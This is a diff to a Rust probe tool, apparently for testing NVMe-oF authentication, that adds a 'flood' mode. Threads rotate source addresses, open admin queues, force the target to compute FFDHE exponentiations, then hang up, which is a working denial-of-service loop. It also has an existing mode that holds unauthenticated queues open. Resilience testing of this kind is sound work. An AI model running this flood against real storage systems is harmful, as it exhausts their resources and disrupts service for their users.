@@ -18,6 +18,14 @@
 //! opens N admin queues from address SRC as that host, never
 //! authenticates, prints `HELD <connected> OF <N> <statuses>` and holds
 //! them SECONDS.
+//!
+//! `auth-probe IP PORT SUBNQN HOSTNQN HOSTID SECRET flood THREADS SRC ADDRS SECONDS`:
+//! what makes a target compute for strangers: THREADS loops, each from one
+//! of ADDRS source addresses (SRC, SRC+1, ...), connect an admin queue as
+//! HOSTNQN, negotiate SHA-256 with every FFDHE group (the target takes
+//! the host's, and computes its exponentiation), take the challenge and
+//! hang up, for SECONDS. Prints
+//! `FLOOD challenges N refused M other K` (K: no answer, or another).
 
 use std::net::{IpAddr, SocketAddr};
 use std::time::Duration;
@@ -316,10 +324,55 @@ fn transport() -> Kind {
         })
 }
 
+/// The flood: see the module's documentation.
+fn flood(p: Probe, threads: usize, src: std::net::Ipv4Addr, addrs: u32, secs: u64) {
+    use std::sync::atomic::{AtomicU64, Ordering};
+    use std::sync::Arc;
+    let p = Arc::new(p);
+    let counts: Arc<[AtomicU64; 3]> = Arc::new(Default::default());
+    let end = std::time::Instant::now() + Duration::from_secs(secs);
+    let workers: Vec<_> = (0..threads)
+        .map(|i| {
+            let (p, counts) = (p.clone(), counts.clone());
+            let ip = std::net::Ipv4Addr::from(u32::from(src) + (i as u32 % addrs.max(1)));
+            std::thread::spawn(move || {
+                let mut t_id = i as u16;
+                while std::time::Instant::now() < end {
+                    t_id = t_id.wrapping_add(threads as u16);
+                    let k = match p.admin_from(Some(IpAddr::V4(ip))) {
+                        Err(_) => 1,
+                        Ok(mut a) => match a.send(&negotiate(t_id, vec![1], vec![1, 2, 3, 4, 5])) {
+                            Err(_) => 2,
+                            Ok(()) => match a.outcome(RECEIVE_LEN).as_str() {
+                                "challenge" => 0,
+                                _ => 2,
+                            },
+                        },
+                    };
+                    counts[k].fetch_add(1, Ordering::Relaxed);
+                    if k != 0 {
+                        // Refused or dropped: as a peer would, come back soon.
+                        std::thread::sleep(Duration::from_millis(50));
+                    }
+                }
+            })
+        })
+        .collect();
+    for w in workers {
+        let _ = w.join();
+    }
+    let n = |i: usize| counts[i].load(Ordering::Relaxed);
+    println!("FLOOD challenges {} refused {} other {}", n(0), n(1), n(2));
+}
+
 fn main() {
     let a: Vec<String> = std::env::args().collect();
-    if a.len() != 7 && !(a.len() == 11 && a[7] == "hold") {
-        eprintln!("usage: auth-probe IP PORT SUBNQN HOSTNQN HOSTID SECRET [hold N SRC SECONDS]");
+    let flooding = a.len() == 12 && a[7] == "flood";
+    if a.len() != 7 && !(a.len() == 11 && a[7] == "hold") && !flooding {
+        eprintln!(
+            "usage: auth-probe IP PORT SUBNQN HOSTNQN HOSTID SECRET \
+             [hold N SRC SECONDS | flood THREADS SRC ADDRS SECONDS]"
+        );
         std::process::exit(2);
     }
     let ip: IpAddr = a[1].parse().expect("IP");
@@ -331,6 +384,13 @@ fn main() {
         hostid: parse_uuid(&a[5]).expect("HOSTID is a UUID"),
         key: Secret::parse(&a[6]).expect("SECRET is a DHHC-1 key"),
     };
+    if flooding {
+        let threads: usize = a[8].parse().expect("THREADS");
+        let src: std::net::Ipv4Addr = a[9].parse().expect("SRC (IPv4)");
+        let addrs: u32 = a[10].parse().expect("ADDRS");
+        let secs: u64 = a[11].parse().expect("SECONDS");
+        return flood(p, threads, src, addrs, secs);
+    }
     if a.len() == 11 {
         let n: usize = a[8].parse().expect("N");
         let src: IpAddr = a[9].parse().expect("SRC");
